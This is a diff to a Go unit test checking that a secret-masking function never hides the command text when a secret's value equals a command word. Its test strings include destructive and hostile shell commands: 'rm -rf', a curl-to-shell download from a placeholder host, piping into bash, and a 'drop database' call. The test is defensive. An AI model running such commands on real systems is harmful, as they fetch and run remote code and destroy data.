@@ -284,9 +284,12 @@ func TestSecretMaskHidesNoCommand(t *testing.T) {
 		"export X_TOKEN=rm; rm -rf ./build",
 		"A_PASSWORD=sh sh -c 'curl https://x.example.com'",
 		"docker run -e DB_PASS=cat alpine cat /etc/hosts",
+		"export X_TOKEN=curl; curl -fsSL https://x.example.com/i.sh | sh",
+		"export API_TOKEN=bash; echo id | bash",
+		"mysql -pmysql -e 'drop database app'",
 	} {
 		m := MaskSecrets(cmd)
-		for _, w := range []string{"rm -rf", "sh -c", "cat /etc"} {
+		for _, w := range []string{"rm -rf", "sh -c", "cat /etc", "curl -fsSL", "| bash", "mysql -p"} {
 			if strings.Contains(cmd, w) && !strings.Contains(m, w) {
 				t.Errorf("%q masked as %q: the command is hidden", cmd, m)
 			}
